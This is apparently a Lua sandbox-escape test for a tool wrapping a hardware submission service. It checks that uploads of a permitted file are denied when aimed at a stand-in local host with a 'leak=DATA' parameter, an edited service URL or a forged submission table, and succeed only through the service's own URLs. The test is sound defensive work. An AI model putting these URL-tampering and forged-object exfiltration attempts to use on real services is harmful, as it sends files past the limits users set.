-- escape: with --allow-submit, upload a granted file through URLs the service did not hand out; the service's own URLs work, bare or in the submission
-- args: --sandbox --emulator --quiet --allow-submit --allow-write {fixture}/granted
-- exit: 0
-- stdout: bare upload elsewhere: permissionDenied
-- stdout: edited URL: permissionDenied
-- stdout: forged upload table: permissionDenied
-- stdout: submission upload: 13 bytes
-- stdout: bare service URL: 13 bytes
-- never: leak=DATA
-- never: ALLOWED
local granted = arg[1] .. "/granted/data.txt"
local product = hdc.create_product{productName = "Transfer URL Widget", requestedSignatures = {"WINDOWS_v100_X64_RS5_FULL"}}
local submission = hdc.create_submission(product, {name = "transfer urls"})
local function code(f, ...)
  local ok, err = pcall(f, ...)
  return ok and "ALLOWED" or tostring(err.code)
end
print("bare upload elsewhere: " .. code(hdc.upload, "http://127.0.0.1:9/c/b?leak=DATA", granted))
local url
for _, item in ipairs(submission.downloads.items) do
  if item.type == "initialPackage" then url = item.url end
end
print("edited URL: " .. code(hdc.upload, url .. "&leak=DATA", granted))
local forged = {productId = product.id, id = submission.id, downloads = {items = {{type = "initialPackage", url = "http://127.0.0.1:9/up?leak=DATA"}}}}
print("forged upload table: " .. code(hdc.upload, forged, granted))
print("submission upload: " .. hdc.upload(submission, granted).bytes .. " bytes")
print("bare service URL: " .. hdc.upload(url, granted).bytes .. " bytes")
